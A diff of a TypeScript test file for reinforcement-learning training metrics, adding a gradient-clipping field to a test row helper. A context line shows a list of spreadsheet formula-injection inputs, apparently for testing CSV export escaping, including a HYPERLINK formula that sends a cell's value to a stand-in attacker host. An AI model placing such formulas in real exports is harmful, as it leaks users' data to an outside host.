@@ -16,7 +16,7 @@ const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1)',
 
 const row = (iteration: number, ret: number | null, loss = 0): IterationMetrics => ({
   iteration, global_step: iteration * 100, lr: 0, episodic_return: ret, episodic_length: ret, episodes: ret === null ? 0 : 1,
-  loss, pg_loss: loss, v_loss: 0, entropy: 0, approx_kl: 0, clipfrac: 0, grad_norm: 0, explained_variance: 0, steps_per_sec: 0,
+  loss, pg_loss: loss, v_loss: 0, entropy: 0, approx_kl: 0, clipfrac: 0, grad_norm: 0, grad_clip_frac: 0, explained_variance: 0, steps_per_sec: 0,
 });
 const runs = [1, 2].map((seed) => ({ seed, metrics: [row(1, -5), row(2, 10)], wallSec: 1, envSteps: 200 }));
 
